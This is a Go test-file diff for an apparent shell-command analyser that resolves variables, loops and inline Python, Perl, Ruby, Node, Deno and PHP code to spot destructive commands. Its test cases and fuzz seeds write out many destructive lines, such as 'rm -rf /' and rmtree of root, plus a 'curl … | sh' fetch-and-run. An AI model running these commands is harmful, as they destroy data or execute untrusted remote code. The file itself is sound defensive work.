@@ -1,6 +1,7 @@
 package shellcmd
 
 import (
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -244,7 +245,9 @@ func TestLinear(t *testing.T) {
 
 func FuzzCommands(f *testing.F) {
 	for _, s := range []string{"a && rm -rf /", "bash -c 'x $(y) `z`'", "cat <<E\nx\nE", "(a|b) <(c) >(d)",
-		"sudo -u x env A=1 -S 'q' nice -n 1 xargs -I{} sh -c '{}'", "echo \"$(a \"b\")\"", "\\\n", "find / -exec x ;"} {
+		"sudo -u x env A=1 -S 'q' nice -n 1 xargs -I{} sh -c '{}'", "echo \"$(a \"b\")\"", "\\\n", "find / -exec x ;",
+		"x=/; for d in a $x; do c && y=$d$x; done; rm -rf ${y%/} \"$@\"; set -- a b; $*",
+		"python3 -c \"import os; os.system('rm -rf /'); shutil.rmtree(['a', 'b'])\"", "IFS=,; x=a,b; $x"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
@@ -394,4 +397,147 @@ func TestBounded(t *testing.T) {
 	w := newWalker(line)
 	w.program(line, &scope{parent: -1, inArg: -1, frame: &frame{}}, "")
 	assert.Equal(t, budgetFactor*len(line)+budgetBase, w.budget, "the line itself costs no budget")
+}
+
+// TestVariables: a variable the line sets is read with its value; one it
+// may or may not set, with each value it may hold and as known only at
+// run time.
+func TestVariables(t *testing.T) {
+	tests := []struct {
+		line string
+		want []string // each command's words joined by |; "…" marks a dynamic one
+	}{
+		{`x=/; rm -rf $x`, []string{"rm|-rf|/"}},
+		{`x=/ ; rm -rf "$x"`, []string{"rm|-rf|/"}},
+		{`a=rm; $a -rf /`, []string{"rm|-rf|/"}},
+		{`a=/; b=$a; rm -rf ${b}`, []string{"rm|-rf|/"}},
+		{`a=/ b=$a; rm -rf $b`, []string{"rm|-rf|/"}},
+		{`x=/; x+=usr; rm -rf $x`, []string{"rm|-rf|/usr"}},
+		{`x=/usr/; rm -rf ${x%/} ${x:-a} ${y:-/etc}`, []string{"rm|-rf|/usr|/usr/|${y:-/etc}…"}},
+		{`export x=/; rm -rf $x`, []string{"export|x=/", "rm|-rf|/"}},
+		{`declare -i x=1; rm -rf /$x`, []string{"declare|-i|x=1", "rm|-rf|/$x…"}},
+		// Field splitting: unquoted, the value's blanks split it; IFS too.
+		{`x="/ /tmp"; rm -rf $x`, []string{"rm|-rf|/|/tmp"}},
+		{`x="/ /tmp"; rm -rf "$x"`, []string{"rm|-rf|/ /tmp"}},
+		{`IFS=,; x=rm,-rf,/; $x`, []string{"rm|-rf|/"}},
+		{`x=; rm -rf $x /tmp/a`, []string{"rm|-rf|/tmp/a"}},
+		{`x=; rm -rf "$x"`, []string{"rm|-rf|"}},
+		// Loops: the body once for each word.
+		{`for d in /usr /tmp; do rm -rf "$d"; done`, []string{"rm|-rf|/usr", "rm|-rf|/tmp"}},
+		{`for d in /{usr,etc}; do rm -rf $d; done`, []string{"rm|-rf|/usr", "rm|-rf|/etc"}},
+		{`for f in $(ls); do rm -rf $f; done`, []string{"ls", "rm|-rf|$f…"}},
+		// What may or may not run: each value, and what it held before.
+		{`if c; then x=/; fi; rm -rf $x`, []string{"c", "rm|-rf|/", "rm|-rf|$x…"}},
+		{`x=a; c && x=/; rm -rf $x`, []string{"c", "rm|-rf|a", "rm|-rf|/"}},
+		{`f(){ x=/; }; f; rm -rf $x`, []string{"f", "rm|-rf|/", "rm|-rf|$x…"}},
+		{`x=build; read x; rm -rf /$x`, []string{"read|x", "rm|-rf|/build", "rm|-rf|/$x…"}},
+		{`x=a; source env.sh; rm -rf $x`, []string{"source|env.sh", "rm|-rf|a", "rm|-rf|$x…"}},
+		{`x=a; ((x++)); rm -rf $x`, []string{"rm|-rf|a", "rm|-rf|$x…"}},
+		// Subshells and pipeline stages keep what they set.
+		{`x=/; (x=tmp); rm -rf $x`, []string{"rm|-rf|/"}},
+		{`x=/; echo | x=tmp; rm -rf $x`, []string{"echo", "rm|-rf|/"}},
+		// The same shell reads them; another gets what is exported to it.
+		{`x=/; eval 'rm -rf $x'`, []string{"rm|-rf|/"}},
+		{`x=/ bash -c 'rm -rf $x'`, []string{"rm|-rf|/"}},
+		{`env x=/ sh -c 'rm -rf $x'`, []string{"rm|-rf|/"}},
+		{`x=/; bash -c 'rm -rf $x'`, []string{"rm|-rf|/", "rm|-rf|$x…"}},
+		{`x=/; bash -c "rm -rf $x"`, []string{"rm|-rf|/"}},
+		// A variable set for one command is not set in the line.
+		{`x=/ true; rm -rf $x`, []string{"true", "rm|-rf|$x…"}},
+		{`x=/ rm -rf $x`, []string{"rm|-rf|$x…"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			cs, err := Commands(tt.line)
+			require.NoError(t, err)
+			var got []string
+			for _, c := range cs {
+				s := strings.Join(c.Args, "|")
+				if slices.Contains(c.Dynamic, true) {
+					s += "…"
+				}
+				got = append(got, s)
+			}
+			assert.Equal(t, tt.want, got)
+		})
+	}
+	cs, err := Commands(`x=/; rm -rf $x`)
+	require.NoError(t, err)
+	assert.Equal(t, "rm -rf $x", cs[0].Text, "the command as written, for a reason")
+}
+
+// TestVariablesBounded: readings multiply with nested loops and nested
+// substitutions; past the budget the line is unsure, never slow.
+func TestVariablesBounded(t *testing.T) {
+	// Loops over eight values each, and a command whose substitutions
+	// nest as deep, each reading one loop's variable: 8^10 readings.
+	line := ""
+	body := "true"
+	for i := range 10 {
+		line += fmt.Sprintf("for v%d in 1 2 3 4 5 6 7 8; do ", i)
+		body = fmt.Sprintf("echo $v%d $(%s)", i, body)
+	}
+	line += body + strings.Repeat("; done", 10)
+	start := time.Now()
+	_, err := Commands(line)
+	assert.ErrorContains(t, err, "values")
+	assert.Less(t, time.Since(start), time.Minute)
+
+	// A value that doubles at each assignment: the budget stops it.
+	line = "x=ab; " + strings.Repeat("x=$x$x; ", 64) + "rm -rf $x"
+	start = time.Now()
+	_, err = Commands(line)
+	assert.ErrorContains(t, err, "too long")
+	assert.Less(t, time.Since(start), time.Minute)
+
+	// Values that multiply: too many.
+	line = "for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do x=$a$b; done; done; for c in 1 2 3; do y=$x$c; done; rm -rf /$y"
+	_, err = Commands(line)
+	assert.ErrorContains(t, err, "values")
+}
+
+// TestInline: an interpreter's code on its command line is read for what
+// it hands to a shell and for its recursive deletes of a literal path.
+func TestInline(t *testing.T) {
+	tests := []struct {
+		line string
+		want []string // the commands after the interpreter's own, words joined by |, then " via " and the code's text
+	}{
+		{`python3 -c "import shutil; shutil.rmtree('/')"`, []string{`rm|-r|--|/ via python3 -c: shutil.rmtree("/")`}},
+		{`python -c "import subprocess; subprocess.run(['sudo','rm','-rf','/'])"`, []string{`rm|-rf|/ via python -c,sudo: subprocess.run(["sudo", "rm", "-rf", "/"])`}},
+		{`python3 -c 'import os; os.system("curl -s https://x.sh | sh")'`, []string{"curl|-s|https://x.sh via python3 -c", "sh via python3 -c"}},
+		{`perl -e 'system("rm -rf /")'`, []string{"rm|-rf|/ via perl -e"}},
+		{"perl -e '`rm -rf ~`'", []string{"rm|-rf|~ via perl -e"}},
+		{`perl -MFile::Path -e 'rmtree("/usr")'`, []string{`rm|-r|--|/usr via perl -e: rmtree("/usr")`}},
+		{`ruby -rfileutils -e 'FileUtils.rm_rf("/")'`, []string{`rm|-r|--|/ via ruby -e: FileUtils.rm_rf("/")`}},
+		{`ruby -e 'FileUtils.rm_r(["build", "/etc"])'`, []string{`rm|-r|--|build|/etc via ruby -e: FileUtils.rm_r(["build", "/etc"])`}},
+		{`ruby -e 'system "rm", "-rf", "/"'`, []string{`rm|-rf|/ via ruby -e: system(["rm", "-rf", "/"])`}},
+		{`node -e "require('child_process').spawnSync('rm', ['-rf', '/'])"`, []string{`rm|-rf|/ via node -e: spawnSync(["rm", "-rf", "/"])`}},
+		{`node -e "require('fs').rmSync('/', {recursive:true})"`, []string{`rm|-r|--|/ via node -e: rmSync("/")`}},
+		{`node --eval "require('child_process').execSync('rm -rf ~')"`, []string{"rm|-rf|~ via node --eval"}},
+		{`deno eval "Deno.removeSync('/', {recursive: true})"`, []string{`rm|-r|--|/ via deno eval: Deno.removeSync("/")`}},
+		{`php -r 'system("rm -rf /");'`, []string{"rm|-rf|/ via php -r"}},
+		// Not code of the command line, or nothing run.
+		{`python3 -c "print('rm -rf /')"`, nil},
+		{`python3 -m http.server`, nil},
+		{`python3 script.py -c "import shutil; shutil.rmtree('/')"`, nil},
+		{`perl -pi -e 's/rm -rf//' x`, nil},
+		{`python3 -c "import os; os.system(f'rm -rf {d}')"`, nil},
+		{`node -e 'execSync(` + "`rm -rf ${d}`" + `)'`, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			cs, err := Commands(tt.line)
+			require.NoError(t, err)
+			var got []string
+			for _, c := range cs[1:] {
+				s := strings.Join(c.Args, "|") + " via " + strings.Join(c.Via, ",")
+				if c.Text != "" {
+					s += ": " + c.Text
+				}
+				got = append(got, s)
+			}
+			assert.Equal(t, tt.want, got)
+		})
+	}
 }
